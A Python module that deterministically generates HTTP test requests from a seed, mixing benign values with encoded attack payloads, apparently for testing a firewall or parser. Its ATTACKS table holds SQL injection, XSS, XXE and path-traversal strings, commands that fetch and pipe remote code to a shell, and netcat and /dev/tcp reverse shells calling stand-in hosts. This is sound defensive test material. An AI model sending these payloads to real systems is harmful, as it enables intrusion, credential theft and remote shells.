"""Requests made from a seed: attacks and benign values, encoded this way and that, in every part of a request.

The same number gives the same request everywhere and for ever, so a difference can be named by its number alone.
What an HTTP server would never hand on (a NUL or a line break inside a header or the request line) is not made here.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from random import Random
from typing import TYPE_CHECKING
from urllib.parse import quote_from_bytes

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

Pairs = list[tuple[bytes, bytes]]

ATTACKS: dict[str, tuple[bytes, ...]] = {
    "sqli": (
        b"1' OR '1'='1", b"1 UNION SELECT user, password FROM users--", b"admin'--", b"1; DROP TABLE users",
        b"' or sleep(5)#",
        b"1 AND (SELECT 1 FROM (SELECT 2,CONCAT(version(),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables)a)",
        b"1/**/union/*x*/select/**/1,2", b"'; exec xp_cmdshell 'dir'--", b"1 and 1=1", b"0x50 + 0x45",
        b"1 waitfor delay '0:0:5'", b"benchmark(1000000,md5(1))", b'" having 1=1 --', b"1 order by 10", b"'||'a'='a",
        b"@@version", b"1' LIKE 'a%' #", b'{"$ne": 1}', b"[$where]", b"load_file('/etc/passwd')", b"char(65,66)",
        b"1'1", b"a' in boolean mode", b"1e1union select 2",
    ),
    "xss": (
        b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>", b"javascript:alert(document.cookie)",
        b"<svg/onload=alert(1)>", b'"><iframe src=//evil.example>', b'<a href="vbscript:msgbox(1)">x</a>',
        b'<b style="width:expression(alert(1))">', b"<math><x:script>1</x:script></math>", b"<object data=x>",
        b"[][(![]+[])[+[]]]", b"{{constructor.constructor('alert(1)')()}}", b"<meta http-equiv=refresh content=0>",
        b"eval(atob('YWxlcnQoMSk='))", b"<body background=x>", b"window['alert'](0)", b"<scr<script>ipt>",
        b"<style>@import 'x'</style>", b"`${alert(1)}`", b"data:text/html,<b>x</b>", b'<!--#exec cmd="ls" -->',
    ),
    "rce": (
        b"; cat /etc/passwd", b"| id", b"`whoami`", b"$(curl http://evil.example/x|sh)", b"&& ping -c 1 10.0.0.1",
        b"c'a't /e?c/p*d", b"() { :;}; echo x", b"powershell -enc SQBFAFgA", b"cmd.exe /c dir",
        b"nc -e /bin/sh 10.0.0.1 4444", b"/bin/bash -i >& /dev/tcp/1/2", b"wget${IFS}http://x.example/a", b"{ls,-la}",
        b"; uname -a;", b"ifconfig", b"python -c 'import os'", b"time", b"a=;$a b", b"!-1",
        b"for f in *; do rm $f; done", b"type C:\\boot.ini", b"\\\\evil\\share\\a.exe", b"w\\ho\\am\\i", b"sudo su",
    ),
    "lfi": (
        b"../../../../etc/passwd", b"..\\..\\windows\\win.ini", b"/etc/shadow", b"....//....//etc/hosts",
        b"file:///etc/passwd", b"%c0%ae%c0%ae/etc/passwd", b"..%c0%af..%c0%af", b".htaccess", b"/proc/self/environ",
        b"WEB-INF/web.xml", b".git/config", b"..%252f..%252fetc/passwd", b"/.ssh/id_rsa", b"a.php.bak", b"..;/manager",
        b"/var/log/apache/error.log", b".env",
    ),
    "rfi": (
        b"http://evil.example/shell.php?", b"http://10.0.0.1/x", b"ftp://evil.example/a", b"//evil.example/x",
        b"https://example.com@evil.example/", b"url:file:///etc/passwd", b"http://0x7f000001/",
        b"http://169.254.169.254/latest/meta-data/", b"gopher://127.0.0.1:25/x", b"http://[::1]/",
        b"jar:http://evil.example!/", b"http://2130706433/",
    ),
    "php": (
        b"<?php phpinfo(); ?>", b"<?= `id` ?>", b"php://input", b'O:8:"stdClass":0:{}', b"$_GET['x']",
        b"base64_decode(eval)", b"a.phtml", b"system('id')", b"phar://x.phar", b"auto_prepend_file=/x", b"$GLOBALS[a]",
        b"assert(1)", b"(sy.(st).em)(id)", b"preg_replace('/a/e')", b"expect://id", b"call_user_func('x')",
        b"file_put_contents(1)", b"[php]", b"zlib:", b"@include $x;",
    ),
    "java": (
        b"${jndi:ldap://evil.example/a}", b"java.lang.Runtime.getRuntime().exec('x')", b"${${lower:j}ndi:rmi://x}",
        b"rO0ABXNyAA==", b"\xac\xed\x00\x05sr", b"class.module.classLoader.resources",
        b"org.apache.commons.collections", b"%{(#a=1)}", b"new ProcessBuilder()", b"javax.script.ScriptEngineManager",
        b"com.opensymphony.xwork2", b"${env:PATH}", b"#{7*7}",
    ),
    "ssti": (
        b"{{7*7}}", b"${7*7}", b"<%= 7*7 %>", b"#{7*7}", b"{{config.items()}}", b"{%if 1%}", b"__proto__[x]=1",
        b"constructor.prototype", b"require('child_process')", b"process.env", b"_$$ND_FUNC$$_",
        b"{{''.__class__.__mro__}}", b"@(1+2)", b"*{T(java.lang.Runtime)}",
    ),
    "protocol": (
        b"\r\nSet-Cookie: a=b", b"GET /x HTTP/1.1\r\nHost: a", b"\n\nhello", b"a\x00b", b"\x7f\x01\x02", b"%", b"%zz",
        b"%0", b"%u00", b"%uzzzz", b"(&(uid=*))", b"*)(uid=*", b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80", b"\xe2\x80\xa8", b"\xef\xbc\x9cscript\xef\xbc\x9e", b"\\u003cscript\\u003e",
        b"&lt;script&gt;", b"\\x3c\\x73", b"x=1&y=2", b"a;b", b"--", b"....", b"A" * 450, b"\xe9t\xe9", b"\\101\\102",
        b"'\xe2\x80\x99\"", b"%5c%5c", b"a\x0bb\x0cc\xa0d", b"Content-Type: x\r\nb: c", b"location: /x", b"\\", b'"',
        b"'", b";", b"|", b"``",
    ),
}  # fmt: skip
"""Pieces of attacks, by what they attack."""

BENIGN = (
    b"", b"1", b"42", b"hello", b"hello world", b"Jane Doe", b"jane.doe@example.com", b"2026-11-22", b"10.5", b"-3",
    b"true", b"en-GB", b"The quick brown fox jumps over the lazy dog.", b"caf\xc3\xa9", b"\xe6\x97\xa5\xe6\x9c\xac",
    b"\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82", b"O'Neill", b"AT&T", b"50% off", b"a+b", b"C:\\Users\\jane",
    b"/shop/list", b"https://www.example.com/a?b=c#d", b"+44 20 7946 0958", b"select a colour", b"union of workers",
    b"7f3c2a9e-0b1d-4c5e-9f8a-1b2c3d4e5f60", b"YWJjZGVmZ2g=", b"#fff", b"a,b,c", b"1;2;3", b"x" * 120,
    b"Dear all,\r\nthank you.\r\n", b"price > 10 and size < 5", b"it's \"fine\"", b"\xf0\x9f\x98\x80",
)  # fmt: skip
"""Values of ordinary requests."""

NAMES = (
    b"id", b"q", b"name", b"user", b"password", b"page", b"file", b"url", b"email", b"comment", b"sort", b"lang",
    b"items[]", b"a[b][c]", b"x.y", b"date-from", b"ID", b"a b", b"_csrf", b"token", b"\xc3\xa9t\xc3\xa9", b"",
    b"__proto__", b"cmd", b"a.b.c", b"PHPSESSID",
)  # fmt: skip
HEADERS = (
    b"Referer", b"User-Agent", b"X-Forwarded-For", b"Accept", b"Accept-Language", b"Accept-Encoding",
    b"X-Requested-With", b"Range", b"Authorization", b"X-Custom", b"Origin", b"If-None-Match", b"X.Filename",
    b"Accept-Charset", b"Cache-Control", b"Connection", b"Content-Encoding", b"Transfer-Encoding",
    b"X-HTTP-Method-Override", b"Proxy", b"Expect", b"Upgrade", b"x-up-devcap-post-charset",
)  # fmt: skip
AGENTS = (
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", b"curl/8.5.0", b"sqlmap/1.8", b"nikto",
    b"Go-http-client/1.1", b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", b"",
    b"python-requests/2.31", b"masscan/1.0",
)  # fmt: skip
PATHS = (
    b"/", b"/index.html", b"/shop/list", b"/a/b/c.php", b"/api/v1/items/42", b"/login", b"/static/app.js",
    b"/caf%C3%A9", b"/a%20b", b"/x.asp", b"/a//b", b"/a/./b", b"/download/report.pdf", b"/%7Euser/",
    b"/wp-admin/admin-ajax.php", b"/search",
)  # fmt: skip
METHODS = (b"GET", b"HEAD", b"POST", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE", b"PROPFIND", b"JEFF", b"get")


@dataclass(frozen=True)
class Generated:
    """One request.

    Attributes:
        number: what it was made from.
        kind: which of `KINDS` it is.
        method, target, version: the request line; the version with ``HTTP/``.
        headers: in order, names as sent.
        body: empty for none.
    """

    number: int
    kind: str
    method: bytes
    target: bytes
    version: bytes
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes = b""


def generate(count: int, *, step: int = 1, seed: int = 0) -> Iterator[Generated]:
    """The requests 0 to count - 1, or every step-th of them."""
    return (make(number, seed=seed) for number in range(0, count, step))


def make(number: int, *, seed: int = 0) -> Generated:
    """The request of a number."""
    random = Random(f"{seed}/{number}")  # a text seeds all bits, the same on each version of Python
    kind = random.choices(list(KINDS), WEIGHTS)[0]
    return KINDS[kind](random, number)


def value(random: Random) -> bytes:
    """A value: about half benign, else an attack or two, perhaps encoded once or twice."""
    if random.random() < 0.5:
        return random.choice(BENIGN)
    family = ATTACKS[random.choice(list(ATTACKS))]
    made = random.choice(family)
    if random.random() < 0.15:
        made = random.choice(BENIGN) + random.choice((b"", b" ", b"\n", b";", b"'")) + made
    if random.random() < 0.1:
        made += random.choice((b" ", b"\t", b"&", b"'", b"\\", b"%")) + random.choice(family)
    for _ in range(random.choice((0, 0, 0, 1, 1, 2))):
        made = random.choice(ENCODINGS)(random, made)
    return made[:4000]


# Encodings of a value, on top of what its place in the request asks for.


def _percent(_random: Random, text: bytes) -> bytes:
    return quote_from_bytes(text, safe="").encode()


def _percent_all(_random: Random, text: bytes) -> bytes:
    return b"".join(b"%%%02x" % byte for byte in text)


def _percent_u(random: Random, text: bytes) -> bytes:
    form = random.choice((b"%%u%04x", b"%%U00%02X", b"%%uff%02x"))
    return b"".join(form % byte if not chr(byte).isalnum() else bytes((byte,)) for byte in text)


def _html(random: Random, text: bytes) -> bytes:
    form = random.choice((b"&#%d;", b"&#x%x;", b"&#%07d", b"&#X%X;"))
    return b"".join(form % byte if random.random() < 0.4 else bytes((byte,)) for byte in text)


def _html_names(_random: Random, text: bytes) -> bytes:
    names = ((b"&", b"&amp;"), (b"<", b"&lt;"), (b">", b"&gt;"), (b'"', b"&quot;"), (b" ", b"&nbsp;"))
    for char, name in names:
        text = text.replace(char, name)
    return text


def _base64(random: Random, text: bytes) -> bytes:
    made = base64.b64encode(text)
    return made.rstrip(b"=") if random.random() < 0.3 else made


def _hex(random: Random, text: bytes) -> bytes:
    return random.choice((b"0x", b"", b"x'")) + text.hex().encode()


def _escapes(random: Random, text: bytes) -> bytes:
    form = random.choice((b"\\x%02x", b"\\u00%02x", b"\\%o", b"\\%x ", b"\\0000%02x"))
    return b"".join(form % byte if random.random() < 0.3 else bytes((byte,)) for byte in text)


def _nulls(random: Random, text: bytes) -> bytes:
    at = random.randrange(len(text) + 1)
    return text[:at] + b"\0" + text[at:]


def _whitespace(random: Random, text: bytes) -> bytes:
    return text.replace(
        b" ", random.choice((b"\t", b"\x0b", b"\x0c", b"\n", b"\r\n", b"\xa0", b"\xc2\xa0", b"  ", b"/**/", b"+"))
    )


def _case(random: Random, text: bytes) -> bytes:
    return bytes(
        random.choice((chr(b).lower(), chr(b).upper()))[0].encode("latin-1")[0] if b < 128 else b for b in text
    )


def _wide(random: Random, text: bytes) -> bytes:
    """Full-width letters, or an overlong form, of some ASCII characters."""
    overlong = random.random() < 0.3
    out = b""
    for byte in text:
        if 0x21 <= byte < 0x7F and random.random() < 0.3:
            out += bytes((0xC0 | byte >> 6, 0x80 | byte & 63)) if overlong else chr(byte + 0xFEE0).encode()
        else:
            out += bytes((byte,))
    return out


def _quotes(random: Random, text: bytes) -> bytes:
    """Quotes, carets and backslashes between letters, as shells ignore them."""
    mark = random.choice((b"'", b'"', b"^", b"\\"))
    return b"".join(bytes((b,)) + mark if chr(b).isalpha() and random.random() < 0.3 else bytes((b,)) for b in text)


def _high(random: Random, text: bytes) -> bytes:
    at = random.randrange(len(text) + 1)
    return text[:at] + random.choice((b"\x80", b"\xe9", b"\xff", b"\xc3", b"\xe2\x80")) + text[at:]


ENCODINGS: tuple[Callable[[Random, bytes], bytes], ...] = (
    _percent, _percent_all, _percent_u, _html, _html_names, _base64, _hex, _escapes, _nulls, _whitespace, _case, _wide,
    _quotes, _high,
)  # fmt: skip


# The places that values stand in.


def _urlencoded(random: Random, pairs: Pairs) -> bytes:
    """A query string or a form: mostly well encoded, sometimes only where its syntax asks for it."""
    style = random.random()

    def encode(text: bytes) -> bytes:
        if style < 0.6:
            return quote_from_bytes(text, safe="").encode()
        if style < 0.8:
            return quote_from_bytes(text, safe=" !'()*/:;<>?@[]^`{|}~,$\"\\").encode().replace(b" ", b"+")
        return b"".join(b"%%%02X" % b if b < 33 or b > 126 or b in b"#&+=" else bytes((b,)) for b in text)

    parts = [encode(name) + b"=" + encode(text) for name, text in pairs]
    if random.random() < 0.05:
        parts.insert(random.randrange(len(parts) + 1), random.choice((b"", b"=", b"flag", b"=x", b"a=b=c", b"a;b=c")))
    return b"&".join(parts)


def _pairs(random: Random, most: int = 4) -> Pairs:
    pairs = []
    for _ in range(random.randint(1, most)):
        name = value(random)[:60] if random.random() < 0.06 else random.choice(NAMES)
        pairs.append((name, value(random)))
    return pairs


def _field(text: bytes) -> bytes:
    """A text as it can stand in a header or a request line: without NUL and line breaks."""
    return text.translate(None, b"\0\r\n").strip(b" \t")


def _headers(random: Random, *more: tuple[bytes, bytes]) -> tuple[tuple[bytes, bytes], ...]:
    """The headers of a browser, now and then without one of them."""
    headers = [
        (b"Host", b"www.example.com"),
        (b"User-Agent", AGENTS[0] if random.random() < 0.85 else random.choice(AGENTS)),
        (b"Accept", b"text/html,application/xhtml+xml,*/*;q=0.8"),
    ]
    if random.random() < 0.08:
        del headers[random.randrange(len(headers))]
    if random.random() < 0.05:
        headers[0] = (
            b"Host",
            random.choice((b"127.0.0.1", b"", b"[::1]:80", b"a.example, b.example", b"1.2.3.4:8080")),
        )
    return (*headers, *more)


def _target(random: Random, query: bytes = b"") -> bytes:
    return random.choice(PATHS) + (b"?" + query if query else b"")


def _length(body: bytes) -> tuple[bytes, bytes]:
    return b"Content-Length", b"%d" % len(body)


def _with_body(random: Random, number: int, kind: str, content_type: bytes, body: bytes) -> Generated:
    target = _target(random, _urlencoded(random, _pairs(random, 2)) if random.random() < 0.15 else b"")
    method = b"POST" if random.random() < 0.9 else random.choice(METHODS)
    headers = _headers(random, (b"Content-Type", content_type), _length(body))
    return Generated(number, kind, method, target, b"HTTP/1.1", headers, body)


def make_query(random: Random, number: int) -> Generated:
    """Arguments in the query string."""
    method = b"GET" if random.random() < 0.9 else random.choice(METHODS)
    target = _target(random, _urlencoded(random, _pairs(random)))
    return Generated(number, "query", method, target, b"HTTP/1.1", _headers(random))


def make_form(random: Random, number: int) -> Generated:
    """A form."""
    content_type = b"application/x-www-form-urlencoded"
    if random.random() < 0.15:
        content_type += random.choice(
            (b"; charset=utf-8", b';charset="UTF-7"', b"; charset=ibm037", b" ", b";a=b", b"; charset=utf-8; charset=x")
        )
    return _with_body(random, number, "form", content_type, _urlencoded(random, _pairs(random, 6)))


def make_multipart(random: Random, number: int) -> Generated:
    """A multipart form with fields and files, one in five a little off."""
    boundary = random.choice((b"----WebKitFormBoundaryAbC123", b"xyz", b"0" * 40))
    lines = []
    for pair_name, text in _pairs(random):
        name = pair_name.translate(None, b'\0\r\n"\\') or random.choice((b"field",) * 19 + (b"",))
        disposition = b'Content-Disposition: form-data; name="%b"' % name
        if random.random() < 0.3:
            disposition += b'; filename="%b"' % _field(
                value(random) if random.random() < 0.5 else b"photo.jpg"
            ).replace(b'"', b"")
            disposition += b"\r\nContent-Type: " + random.choice(
                (b"image/jpeg", b"text/plain", b"application/x-php", b"text/html; charset=utf-7")
            )
        lines.append(b"--%b\r\n%b\r\n\r\n%b\r\n" % (boundary, disposition, text))
    body = b"".join(lines) + b"--%b--\r\n" % boundary
    content_type = b"multipart/form-data; boundary=" + boundary
    if random.random() < 0.08:
        body = random.choice(MULTIPART_FAULTS)(boundary, body)
    chance = random.random()
    if chance < 0.08:
        content_type = b'multipart/form-data; boundary="%b"' % boundary
    elif chance < 0.1:
        content_type = random.choice(
            (content_type + b"=", content_type.replace(b";", b"", 1), content_type + b"; boundary=b")
        )
    return _with_body(random, number, "multipart", content_type, body)


MULTIPART_FAULTS: tuple[Callable[[bytes, bytes], bytes], ...] = (
    lambda boundary, body: body.replace(b"--%b--\r\n" % boundary, b""),
    lambda _boundary, body: body.replace(b"\r\n", b"\n"),
    lambda _boundary, body: b"preamble\r\n" + body,
    lambda _boundary, body: body + b"epilogue",
    lambda _boundary, body: body.replace(b"form-data; name", b"form-data;name", 1),
    lambda _boundary, body: body.replace(b'name="', b"name='", 1).replace(b'"\r\n\r\n', b"'\r\n\r\n", 1),
    lambda _boundary, body: body.replace(b"form-data; ", b"form-data; charset=utf-7; ", 1),
    lambda _boundary, body: body.replace(b"Content-Disposition:", b"content-disposition :", 1),
    lambda _boundary, body: body.replace(b"\r\n\r\n", b"\r\nX-Odd: <script>\r\n\r\n", 1),
    lambda _boundary, body: body.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n", 1),
    lambda _boundary, body: body[: len(body) // 2],
)  # fmt: skip


def _tree(random: Random, depth: int) -> object:
    choice = random.random()
    if depth and choice < 0.2:
        return [_tree(random, depth - 1) for _ in range(random.randint(0, 3))]
    if depth and choice < 0.4:
        return {_json_text(random.choice(NAMES)): _tree(random, depth - 1) for _ in range(random.randint(0, 3))}
    if choice < 0.5:
        return random.choice((None, True, False, 0, -1, 3.5, 10**12))
    return _json_text(value(random))


def _json_text(text: bytes) -> str:
    return text.decode("utf-8", "replace")


def make_json(random: Random, number: int) -> Generated:
    """A JSON body, one in sixteen not well-formed."""
    tree: object = {_json_text(name): _tree(random, 2) for name, _ in _pairs(random)}
    if random.random() < 0.15:
        tree = _tree(random, 3)
    body = json.dumps(tree, ensure_ascii=random.random() < 0.5).encode("utf-8", "replace")
    if random.random() < 0.04:
        body = random.choice(
            (body[:-1], b"{" + body, body + b" x", body.replace(b'"', b"'"), b"\xef\xbb\xbf" + body, body + body)
        )
    content_type = random.choice(
        (b"application/json",) * 40 + (b"application/json; charset=utf-8", b"application/vnd.api+json", b"text/json")
    )
    return _with_body(random, number, "json", content_type, body)


def _xml_text(text: bytes) -> bytes:
    """A text as it can stand in an XML document; characters that cannot are left out."""
    kept = "".join(c for c in text.decode("utf-8", "replace") if c >= " " or c in "\t\r\n")
    for char, name in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;")):
        kept = kept.replace(char, name)
    return kept.encode()


def make_xml(random: Random, number: int) -> Generated:
    """An XML body, one in twenty not well-formed, a few with a document type."""
    members = b"".join(
        b'<item kind="%b">%b</item>' % (_xml_text(value(random)), _xml_text(value(random)))
        for _ in range(random.choice((1,) * 9 + (3,)))
    )
    body = b"<list>" + members + b"</list>"
    chance = random.random()
    if chance < 0.03:
        body = b'<!DOCTYPE list [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body.replace(b"</list>", b"&x;</list>")
    elif chance < 0.1:
        body = body.replace(b'">', b'"><![CDATA[<script>alert(1)</script>]]>', 1)
    elif chance < 0.15:
        body = random.choice((body[:-3], body.replace(b"</item>", b"", 1), b"x" + body, body + b"<"))
    if random.random() < 0.4:
        body = b'<?xml version="1.0" encoding="UTF-8"?>\n' + body
    content_type = random.choice((b"text/xml", b"application/xml", b"application/soap+xml; charset=utf-8"))
    return _with_body(random, number, "xml", content_type, body)


def make_cookies(random: Random, number: int) -> Generated:
    """Values in cookies."""
    pairs = _pairs(random)
    separator = random.choice((b"; ",) * 9 + (b";", b",", b" ;  "))
    encode = _percent if random.random() < 0.4 else _case if random.random() < 0.1 else lambda _random, text: text
    cookies = separator.join(_field(name) + b"=" + _field(encode(random, text)) for name, text in pairs)
    return Generated(number, "cookies", b"GET", _target(random), b"HTTP/1.1", _headers(random, (b"Cookie", cookies)))


def make_header(random: Random, number: int) -> Generated:
    """Values in one to three headers that may repeat."""
    more = []
    for _ in range(random.randint(1, 3)):
        name = random.choice(HEADERS)
        more.append((name.lower() if random.random() < 0.2 else name, _field(value(random))))
    return Generated(number, "header", b"GET", _target(random), b"HTTP/1.1", _headers(random, *more))


def make_path(random: Random, number: int) -> Generated:
    """Values in the path."""
    safe = "/" if random.random() < 0.6 else "/!'()*:;<>@[]^`{|}~,$=&\\\""
    target = random.choice((b"/", b"/a/", b"/x.php/")) + quote_from_bytes(value(random), safe=safe).encode()
    if random.random() < 0.3:
        target += b"?" + _urlencoded(random, _pairs(random, 2))
    return Generated(number, "path", b"GET", target, b"HTTP/1.1", _headers(random))


def make_odd(random: Random, number: int) -> Generated:
    """Odd request lines, methods, versions, lengths and bodies."""
    query = _urlencoded(random, _pairs(random, 2))
    target = _target(random, query)
    method, version, headers, body = random.choice(METHODS), b"HTTP/1.1", _headers(random), b""
    choice = random.choices(range(9), (6, 2, 2, 6, 2, 1, 6, 6, 6))[0]
    if choice == 0:
        version = random.choice((b"HTTP/1.0", b"HTTP/2.0", b"HTTP/0.9", b"HTTP/3.0", b"HTTP/1.2", b"JUNK/1.0"))
    elif choice == 1:
        target = (
            random.choice((b"http://www.example.com", b"https://other.example:8443", b"//www.example.com")) + target
        )
    elif choice == 2:
        target += b"#" + random.choice((b"top", b"<script>", b"a=1"))
    elif choice == 3:
        method, target = random.choice(((b"OPTIONS", b"*"), (b"CONNECT", b"www.example.com:443"), (b"GET", b"")))
    elif choice == 4:
        target = target.replace(b"/", b"/%zz", 1) if random.random() < 0.5 else target + b"&x=%u00e9&y=%1"
    elif choice == 5:
        body = query
        headers = (
            *headers,
            (b"Content-Type", random.choice((b"text/plain", b"application/octet-stream", b"a/b", b""))),
            _length(body),
        )
    elif choice == 6:
        body = query
        headers = (
            *headers,
            (b"Content-Type", b"application/x-www-form-urlencoded"),
            random.choice(((b"Content-Length", b"7"), (b"Content-Length", b"x"), (b"Transfer-Encoding", b"chunked"))),
        )
    elif choice == 7:
        headers = (*headers, *headers[:1], (b"Range", b"bytes=0-1,2-3,4-5,6-7,8-9,10-11"), (b"X-Long", b"a" * 300))
    else:
        target = _target(random, b"&".join(b"a%d=%d" % (n, n) for n in range(random.choice((10, 260)))))
    return Generated(number, "odd", method, target, version, headers, body)


KINDS: dict[str, Callable[[Random, int], Generated]] = {
    "query": make_query, "form": make_form, "multipart": make_multipart, "json": make_json, "xml": make_xml,
    "cookies": make_cookies, "header": make_header, "path": make_path, "odd": make_odd,
}  # fmt: skip
WEIGHTS = (5, 5, 3, 4, 2, 3, 3, 3, 1)
